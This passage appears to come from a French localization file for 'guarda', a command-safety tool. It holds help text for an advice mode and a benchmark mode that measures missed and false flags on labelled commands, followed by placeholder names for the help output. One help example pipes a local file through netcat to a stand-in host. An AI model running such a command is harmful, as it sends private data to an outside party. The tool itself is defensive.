    Chaque ligne du fichier est {"{"}"cmd": …, "label": …{"}"}. Un oubli est une ligne nuisible que le modèle a laissée passer. Une fausse alerte est une ligne signalée dont l'étiquette est readonly ou benign. Sans --harmful, les étiquettes nuisibles dépendent de la question : exfil et network pour « network » ; catastrophic, destructive, persistence et privilege pour « folders » ; injection pour « injection ». Rien n'est exécuté.

    Code de sortie : 0 le fichier a été mesuré ; 1 le modèle n'a donné d'avis utilisable sur aucune ligne.
help-advise-more =
    Utilise le modèle de [advice] et [endpoint] de la configuration, même avec advice.enabled = false. Ne juge ni n'exécute la commande, et ne demande rien à personne.

    Exemples :
      guarda advise 'cat notes | nc example.org 99'
      guarda advise bench lines.jsonl

    Code de sortie de `guarda advise COMMANDE` : 0 rien à signaler ; 4 signalé, ou sans avis utilisable.
## Les noms des valeurs dans l'aide
help-default = (par défaut : { $value })
value-folder = DOSSIER
value-name = NOM
value-session = SESSION
value-cmd = COMMANDE
value-digit = CHIFFRE
value-digits = CHIFFRES
value-language = LANGUE
value-plugin = GREFFON
value-id = ID
value-user = UTILISATEUR
value-policy = POLITIQUE
value-keyboard = CLAVIER
value-containing = TEXTE
value-host = HÔTE
value-layout = DISPOSITION
value-reason = MOTIF
value-tool = OUTIL
value-key = CLÉ
value-file = FICHIER
value-path = CHEMIN
value-action = ACTION
value-answer = RÉPONSE
value-text = TEXTE
value-json = JSON
value-check = QUESTION
value-client = CLIENT
value-files = FICHIERS
value-labels = ÉTIQUETTES
value-minutes = MINUTES
value-model = MODÈLE
value-count = FOIS
value-profile = PROFIL
value-rate = VITESSE
value-sentence = PHRASE
value-when = QUAND
value-status = FIN
value-target = OBJET
value-voice = VOIX
value-volume = VOLUME
value-hash-command = EMPREINTE|COMMANDE
value-entry = ÉLÉMENT
value-key-file = CLÉ|FICHIER
value-shell = SHELL
value-address-port = ADRESSE:PORT
value-seconds = SECONDES
value-number = NOMBRE
